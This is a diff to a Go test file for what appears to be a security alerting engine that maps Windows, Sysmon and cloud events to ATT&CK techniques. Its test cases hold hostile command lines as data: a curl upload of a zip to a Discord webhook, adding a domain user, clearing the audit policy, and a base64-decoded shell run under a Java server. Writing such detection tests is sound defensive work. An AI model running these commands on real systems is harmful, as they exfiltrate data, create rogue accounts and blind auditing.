@@ -94,6 +94,15 @@ func TestWhatEventsStandFor(t *testing.T) {
 		"a message to a chat":            {event("4688", "Security", alert.Field{Slot: image, Value: `C:\t\curl.exe`}, alert.Field{Slot: command, Value: "curl -F file=@a.zip https://discord.com/api/webhooks/1/x"}), start, "T1567.004", "exfiltration", ""},
 		"an account of the domain":       {event("4688", "Security", alert.Field{Slot: image, Value: `C:\Windows\System32\net.exe`}, alert.Field{Slot: command, Value: "net user eve Passw0rd! /add /domain"}), start, "T1136.002", "persistence", ""},
 		"a time on a clock":              {event("4688", "Security", alert.Field{Slot: image, Value: `C:\t\what.exe`}, alert.Field{Slot: command, Value: "what at 10:30"}), start, "", "", "T1053.002"},
+		"rights of the replication":      {event("4662", "Security", alert.Field{Slot: alert.SlotDetails, Value: "%%7688 {1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}"}), generic, "T1003.006", "credential-access", ""},
+		"rights of something else":       {event("4662", "Security", alert.Field{Slot: alert.SlotDetails, Value: "%%7688 {bf967aba-0de6-11d0-a285-00aa003049e2}"}), generic, "", "", "T1003.006"},
+		"tasks of another machine":       {event("5145", "Security", alert.Field{Slot: fileTarget, Value: "atsvc"}), share, "T1053.005", "lateral-movement", ""},
+		"a service that is a shell":      {event("7045", "System", alert.Field{Slot: alert.EntitySlot(alert.Target, alert.Command), Value: `%COMSPEC% /Q /c echo x`}), service, "T1569.002", "persistence", ""},
+		"the audit policy":               {event("4688", "Security", alert.Field{Slot: image, Value: `C:\Windows\System32\auditpol.exe`}, alert.Field{Slot: command, Value: "auditpol /clear /y"}), start, "T1562.002", "defense-evasion", ""},
+		"the audit policy looked at":     {event("4688", "Security", alert.Field{Slot: image, Value: `C:\Windows\System32\auditpol.exe`}, alert.Field{Slot: command, Value: "auditpol /get /category:*"}), start, "", "", "T1562.002"},
+		"a shell at the logon screen":    {event("1", sysmonLog, alert.Field{Slot: image, Value: `C:\Windows\System32\cmd.exe`}, alert.Field{Slot: alert.SlotParent, Value: `C:\Windows\System32\utilman.exe`}), start, "T1546.008", "persistence", ""},
+		"a server that runs text":        {event("1", sysmonLog, alert.Field{Slot: image, Value: "/bin/bash"}, alert.Field{Slot: alert.SlotParent, Value: "/usr/bin/java"}, alert.Field{Slot: command, Value: "bash -c {echo,aWQ=}|{base64,-d}|sh"}), start, "T1190", "persistence", ""},
+		"a server that starts a script":  {event("1", sysmonLog, alert.Field{Slot: image, Value: "/bin/bash"}, alert.Field{Slot: alert.SlotParent, Value: "/usr/bin/java"}, alert.Field{Slot: command, Value: "bash /opt/app/rotate.sh"}), start, "", "", "T1190"},
 		"a call that ends like it":       {event("", "x", alert.Field{Slot: alert.SlotOperation, Value: "DontStopLogging"}, alert.Field{Slot: alert.SlotRegion, Value: "eu"}), call, "", "", "T1562.008"},
 	} {
 		t.Run(name, func(t *testing.T) {
@@ -177,7 +186,7 @@ func TestTechniquesHaveNames(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	ids := []string{"T1041", "T1105"} // of enrich.go
+	ids := []string{"T1041", "T1048", "T1048.003", "T1105", "T1560"} // of enrich.go and outflow.go
 	for _, m := range list {
 		ids = append(ids, m.Technique)
 	}
